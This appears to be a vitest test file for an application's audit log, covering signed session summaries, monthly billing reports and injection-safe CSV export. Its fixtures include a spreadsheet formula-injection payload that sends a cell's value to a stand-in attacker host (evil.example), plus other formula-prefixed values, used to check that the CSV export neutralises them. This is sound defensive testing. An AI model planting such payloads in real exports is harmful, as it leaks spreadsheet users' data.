import { describe, expect, it } from 'vitest';
import { generateSigningKeyPair } from '../../../platform/signing';
import { listSessions, monthlyReport } from '../../../main/audit/audit-history';
import { AuditLog, auditLogPath } from '../../../main/audit/audit-log';
import { csvCell, toCsv } from '../../../main/audit/usage-csv';
import { ENGINEER, appendSession, steppingClock, tempDataDir } from './audit-fixtures';

const device = generateSigningKeyPair();
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

async function history(): Promise<string> {
  const dataDir = await tempDataDir();
  const october = await AuditLog.open(dataDir, {
    now: steppingClock('2026-10-31T23:00:00Z', 60_000),
  });
  await appendSession(october, 'oct1', { ticket: 'T-1' });
  await october.summarizeSession('oct1', device.privateKey);
  await october.close();
  const november = await AuditLog.open(dataDir, {
    now: steppingClock('2026-11-03T09:00:00Z', 90_000),
  });
  await appendSession(november, 'nov1', {
    ticket: INJECTION,
    engineer: { ...ENGINEER, name: '@SUM(A1:A9)' },
  });
  await november.summarizeSession('nov1', device.privateKey);
  await appendSession(november, 'nov2', { accept: false });
  await november.summarizeSession('nov2', device.privateKey);
  // Cut short (no end, no summary): still billed, computed from its records.
  await november.append({
    type: 'session.requested',
    sessionId: 'nov3',
    data: { engineer: ENGINEER, ticket: 'a,"b"' },
  });
  await november.append({
    type: 'session.accepted',
    sessionId: 'nov3',
    actor: 'approver',
    data: {},
  });
  await november.append({
    type: 'action.requested',
    sessionId: 'nov3',
    data: { kind: 'file.list' },
  });
  await november.append({ type: 'action.decided', sessionId: 'nov3', data: { allowed: true } });
  await november.close();
  return auditLogPath(dataDir);
}

describe('history and monthly report', () => {
  it('lists sessions with their summaries and whether the signature verifies', async () => {
    const file = await history();
    const entries = await listSessions(file, device.publicKey);
    expect(entries.map((e) => [e.sessionId, e.signature, e.matchesRecords])).toEqual([
      ['oct1', 'valid', true],
      ['nov1', 'valid', true],
      ['nov2', 'valid', true],
      ['nov3', 'missing', null],
    ]);
    expect(entries[3]!.summary).toMatchObject({
      accepted: true,
      ended: false,
      counts: { requested: 1, allowed: 1 },
    });
    expect((await listSessions(file)).map((e) => e.signature)).toEqual([
      'unchecked',
      'unchecked',
      'unchecked',
      'missing',
    ]);
    const other = generateSigningKeyPair().publicKey;
    expect((await listSessions(file, other)).map((e) => e.signature)).toEqual([
      'invalid',
      'invalid',
      'invalid',
      'missing',
    ]);
  });

  it('marks a summary signed by another key, or one that does not match the records', async () => {
    const dataDir = await tempDataDir();
    const log = await AuditLog.open(dataDir);
    await appendSession(log, 'sX');
    await log.summarizeSession('sX', generateSigningKeyPair().privateKey);
    await appendSession(log, 'sY');
    const genuine = await log.summarizeSession('sY', device.privateKey);
    // A correctly signed summary that claims other counts than the records show.
    await log.append({ type: 'action.requested', sessionId: 'sY', data: { kind: 'file.read' } });
    await log.append({ type: 'session.summary', sessionId: 'sY', data: genuine });
    await log.close();
    const entries = await listSessions(auditLogPath(dataDir), device.publicKey);
    expect(entries.map((e) => [e.sessionId, e.signature, e.matchesRecords])).toEqual([
      ['sX', 'invalid', true],
      ['sY', 'valid', false],
    ]);
  });

  it('reports the accepted sessions that started in the month, as injection-safe CSV', async () => {
    const file = await history();
    const october = await monthlyReport(file, {
      year: 2026,
      month: 10,
      devicePublicKey: device.publicKey,
    });
    expect(october.map((r) => r.sessionId)).toEqual(['oct1']);
    const rows = await monthlyReport(file, {
      year: 2026,
      month: 11,
      devicePublicKey: device.publicKey,
    });
    expect(rows.map((r) => r.sessionId)).toEqual(['nov1', 'nov3']);
    expect(rows[0]).toMatchObject({
      engineer: '@SUM(A1:A9)',
      engineerEmail: ENGINEER.email,
      ticket: INJECTION,
      actionsRequested: 4,
      actionsAllowed: 3,
      actionsDenied: 1,
      actionsFailed: 1,
      summarySignature: 'valid',
    });
    // Accepted at the 4th record, ended at the 17th: 13 steps of 90 s = 19.5 minutes, billed as 20.
    expect(rows[0]!.durationMinutes).toBe(20);
    expect(await monthlyReport(file, { year: 2026, month: 12 })).toEqual([]);
    await expect(monthlyReport(file, { year: 2026, month: 13 })).rejects.toThrow(RangeError);

    const csv = toCsv(rows);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      'session,start,end,duration_minutes,engineer,engineer_email,engineer_key,ticket,actions_requested,actions_allowed,actions_denied,actions_failed,summary_signature',
    );
    expect(lines[1]).toContain(`,'@SUM(A1:A9),`);
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(lines[2]).toContain(',"a,""b""",');
    expect(lines[3]).toBe('');
    expect(lines).toHaveLength(4);
  });

  it('quotes and defuses single cells', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });
});
